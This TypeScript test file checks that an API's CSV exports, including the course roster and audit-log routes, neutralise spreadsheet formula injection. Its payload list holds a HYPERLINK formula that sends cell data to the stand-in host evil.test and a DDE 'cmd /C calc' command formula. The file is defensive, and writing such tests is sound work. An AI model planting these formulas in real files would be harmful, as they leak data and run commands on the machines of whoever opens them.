import Papa from "papaparse";
import type { Kysely } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { RESOURCES, getResource, type ResourceDef } from "../../../resources/index.js";
import { call, createTestApp, type TestApp } from "../../fixtures/app.js";
import { DATABASE_KINDS } from "../../fixtures/database.js";
import { createRecord, fitToField, uniqueToken, type Api } from "../../fixtures/records.js";
import { signedInUser } from "../../fixtures/users.js";

// OWASP "CSV Injection": whatever a user (or a client, through the portal) typed comes out of
// every CSV the API writes as text a spreadsheet shows, never as a formula it runs. The routes
// come from the API's own route table (its OpenAPI document): every declared export, and each
// hand-written CSV route, which must have a way to plant a formula below or this test fails.

type Row = Record<string, any>;

/** Formulas of every kind OWASP lists; `n` keeps a unique column unique. */
const FORMULAS = [
  (n: string) => `=HYPERLINK("http://evil.test/?leak="&A2,"${n}")`,
  (n: string) => `@SUM(1+${n})`,
  (n: string) => `+1+${n}`,
  (n: string) => `-1+cmd|' /C calc'!${n}`,
  // Sent through the API, this is saved trimmed, "=1+…": neutralised on the way out all the same.
  (n: string) => `\t=1+${n}`,
];
// Planted straight into the database (never trimmed): a tab and a carriage return first.
const RAW_FORMULAS = [(n: string) => `\t=2+${n}`, (n: string) => `\r=3+${n}`];
const FORMULA_START = /^[=+\-@\t\r]/;
/** A number the app wrote itself (an amount, a count): the only cells that may start with a minus. */
const APP_NUMBER = /^-?\d+([.,]\d+)?$/;

const db = (t: TestApp) => t.database.handle.db as unknown as Kysely<any>;

/** The cells of an answer, as a spreadsheet reads them. */
function cellsOf(body: string): string[][] {
  expect(body.startsWith("\uFEFF")).toBe(true);
  return Papa.parse<string[]>(body.slice(1), { delimiter: ";", newline: "\r\n" }).data;
}

/** A formula that fits the field, or undefined when no kind does. */
function formulaFor(def: ResourceDef, name: string, index: number, kinds = FORMULAS): string | undefined {
  const field = def.fields[name];
  for (let i = 0; i < kinds.length; i++) {
    const text = kinds[(index + i) % kinds.length](uniqueToken());
    if (text.length <= (field.maxLength ?? 200) && text.trim().length >= (field.minLength ?? 0))
      return fitToField(text, field);
  }
  return undefined;
}

const isText = (def: ResourceDef, name: string) =>
  ["string", "text"].includes(def.fields[name]?.type) && !def.fields[name].readOnly && !def.fields[name].lookup;

/**
 * A row of `def` with a formula in every text column its export shows: typed through the API,
 * and, for names looked up from another table, written there. Answers the cells expected.
 */
async function plantRow(t: TestApp, api: Api, def: ResourceDef): Promise<Record<string, string>> {
  const typed: Row = {};
  def.list.columns.forEach((name, i) => {
    const formula = isText(def, name) ? formulaFor(def, name, i) : undefined;
    if (formula) typed[name] = formula;
  });
  const row = await createRecord(api, def, typed);
  const expected: Record<string, string> = {};
  for (const [name, value] of Object.entries(typed)) expected[name] = `'${String(value).trim()}`;
  for (const [i, name] of def.list.columns.entries()) {
    const lookup = def.fields[name]?.lookup;
    if (!lookup || lookup.through || typeof row[lookup.via] !== "number") continue;
    const formula = RAW_FORMULAS[i % RAW_FORMULAS.length](uniqueToken());
    const others = Object.fromEntries(lookup.columns.slice(1).map((column) => [column, null]));
    await db(t)
      .updateTable(lookup.table)
      .set({ [lookup.columns[0]]: formula, ...others })
      .where("id", "=", row[lookup.via])
      .execute();
    expected[name] = `'${formula}`;
  }
  return expected;
}

/** Every cell is safe, and the row holding the planted cells is there with each of them neutralised. */
function expectNeutralised(body: string, columns: readonly string[], expected: Record<string, string>): void {
  const rows = cellsOf(body);
  for (const row of rows)
    for (const cell of row)
      if (FORMULA_START.test(cell)) expect(cell, "a cell a spreadsheet would run").toMatch(APP_NUMBER);
  expect(Object.keys(expected).length, "something was planted").toBeGreaterThan(0);
  const planted = rows
    .slice(1)
    .find((row) => Object.entries(expected).every(([name, cell]) => row[columns.indexOf(name)] === cell));
  expect(planted, `a row with ${JSON.stringify(expected)} in ${body}`).toBeDefined();
}

/** CSV routes written by hand: how to plant a formula in what each one writes. */
const HAND_WRITTEN: Record<
  string,
  (t: TestApp, api: Api) => Promise<{ url: string; columns: string[]; expected: Record<string, string> }>
> = {
  "/api/courses/{id}/roster.csv": async (t, api) => {
    const registrations = getResource("course-registrations")!;
    const student = formulaFor(registrations, "student_name", 0)!;
    const row = await createRecord(api, registrations, { student_name: student });
    const client = RAW_FORMULAS[0](uniqueToken());
    await db(t).updateTable("lead_clients").set({ name: client }).where("id", "=", row.client_id).execute();
    // The roster's columns: status, position, student, birth date, client.
    return {
      url: `/api/courses/${row.course_id}/roster.csv`,
      columns: ["status", "position", "student_name", "birth", "client_name"],
      expected: { student_name: `'${student.trim()}`, client_name: `'${client}` },
    };
  },
  "/api/logs/export.csv": async (t) => {
    // What a log row holds comes from requests: a resource and a record id a caller sent.
    const [resource, recordId] = [RAW_FORMULAS[0](uniqueToken()), RAW_FORMULAS[1 % RAW_FORMULAS.length](uniqueToken())];
    await db(t)
      .insertInto("audit_logs")
      .values({ action: "update", resource, record_id: recordId, before: "{}", after: "{}" })
      .execute();
    return {
      url: "/api/logs/export.csv",
      columns: [
        "created_at",
        "user_name",
        "user_email",
        "action",
        "resource",
        "record_id",
        "ip",
        "request_id",
        "before",
        "after",
      ],
      expected: { resource: `'${resource}`, record_id: `'${recordId}` },
    };
  },
};

const EXPORTS = RESOURCES.filter((def) => def.list.export);

describe.each(DATABASE_KINDS)("CSV exports on %s", (kind) => {
  let t: TestApp;
  let admin: Api;
  let csvPaths: string[];

  beforeAll(async () => {
    t = await createTestApp(kind);
    admin = { app: t.app, token: (await signedInUser(t.app, t.database.handle.db, "admin")).token };
    const doc = (await t.app.inject({ method: "GET", url: "/api/docs/json" })).json();
    csvPaths = Object.entries<Record<string, any>>(doc.paths)
      .filter(
        ([path, item]) =>
          path.endsWith(".csv") || Object.values(item).some((op) => op?.responses?.["200"]?.content?.["text/csv"]),
      )
      .map(([path]) => path);
  });
  afterAll(() => t?.close());

  it("knows how to plant a formula in every CSV route of the API", () => {
    const generic = EXPORTS.map((def) => `/api/${def.name}/export.csv`);
    expect(csvPaths).toEqual(expect.arrayContaining(generic));
    for (const path of csvPaths)
      expect(generic.includes(path) || Object.hasOwn(HAND_WRITTEN, path), `no way to test ${path}`).toBe(true);
  });

  it.each(EXPORTS.map((def) => [def.name, def] as const))(
    "GET /api/%s/export.csv neutralises formulas",
    async (name, def) => {
      const expected = await plantRow(t, admin, def);
      for (const lang of ["es", "en"]) {
        const res = await call(t.app, admin.token, { method: "GET", url: `/api/${name}/export.csv`, lang });
        expect(res.statusCode, res.body).toBe(200);
        expect(res.headers["content-type"]).toMatch(/^text\/csv/);
        expectNeutralised(res.body, def.list.columns, expected);
      }
    },
  );

  it.each(Object.keys(HAND_WRITTEN))("GET %s neutralises formulas", async (path) => {
    const { url, columns, expected } = await HAND_WRITTEN[path](t, admin);
    const res = await call(t.app, admin.token, { method: "GET", url });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers["content-type"]).toMatch(/^text\/csv/);
    expectNeutralised(res.body, columns, expected);
  });
});
